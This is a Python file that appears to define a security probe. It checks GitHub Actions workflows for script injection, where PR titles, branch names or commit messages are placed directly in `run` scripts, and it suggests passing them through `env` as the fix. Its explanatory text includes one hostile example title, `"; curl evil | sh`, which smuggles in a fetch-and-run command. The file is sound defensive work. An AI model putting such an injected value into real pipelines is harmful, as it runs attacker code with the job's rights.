"""Can a title or a branch name become a command?"""

import re

from assessments.evidence.finding import Effort, Evidence, Finding, Outcome, met, not_met
from assessments.evidence.pipelines import actions, nothing_to_judge, workflows
from assessments.evidence.probe import Probe
from assessments.evidence.reading.workflows import Step
from assessments.evidence.snapshot import Snapshot

PROBE = Probe(
    key="ci-script-injection",
    title="Texts from outside do not become commands",
    family="pipelines",
    capabilities=("supply-chain-security", "pervasive-security"),
    why='The value of `${{ ... }}` is put into a script before the shell reads it. A pull request titled `"; curl '
    "evil | sh` then runs with the rights of the job.",
    how="Values in `${{ }}` that anyone can choose (title, body, branch name, commit message, comment) in a `run` "
    "or in the script of actions/github-script. Values passed through `env` are safe.",
    outcomes={
        Outcome.MET: "No script holds such a value.",
        Outcome.NOT_MET: "A script holds such a value.",
        Outcome.NOT_APPLICABLE: "There are no workflows.",
    },
    remedy='Put the value into `env` of the step and use it in the script as "$NAME", in quotes.',
    effort=Effort.MINUTES,
    every=True,
    version=2,
)

_EXPRESSION = re.compile(r"\$\{\{((?:(?!\}\}).){1,500}?)\}\}", re.DOTALL)
#: What gives a truth value, whatever the text is.
_HARMLESS = re.compile(r"\b(contains|startsWith|endsWith)\([^()]*\)|[\w.*\[\]]+ *[!=]= *[^&|]+")
_FROM_OUTSIDE = re.compile(
    r"\b(github\.head_ref|github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|"
    r"repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|"
    r"head_commit\.(message|author\.(name|email))|commits\S{0,20}\.(message|author\.(name|email))|"
    r"pages\S{0,20}\.page_name|workflow_run\.(head_branch|head_commit\.message|display_title)))\b"
)


def judge(snapshot: Snapshot) -> Finding:
    if none := nothing_to_judge(snapshot):
        return none
    steps = [(workflow.path, step) for workflow in workflows(snapshot) for _, step in workflow.steps()]
    steps += [(action.path, step) for action in actions(snapshot) for step in action.steps]
    bad = [place for path, step in steps for place in _places(path, step)]
    if bad:
        return not_met("A value that anyone can choose is put into a script.", bad)
    return met("No script holds a value that anyone can choose.")


def _places(path: str, step: Step) -> list[Evidence]:
    scripts = [(step.run, step.run_line)] if step.run else []
    if step.uses and step.uses.name == "actions/github-script":
        script = step.with_.get("script")
        scripts.append((str(script or ""), getattr(script, "line", step.line)))
    return [
        Evidence(path, line + script.count("\n", 0, found.start()), found[0])
        for script, line in scripts
        for found in _EXPRESSION.finditer(script)
        if _FROM_OUTSIDE.search(_HARMLESS.sub("", found[1]))
    ]
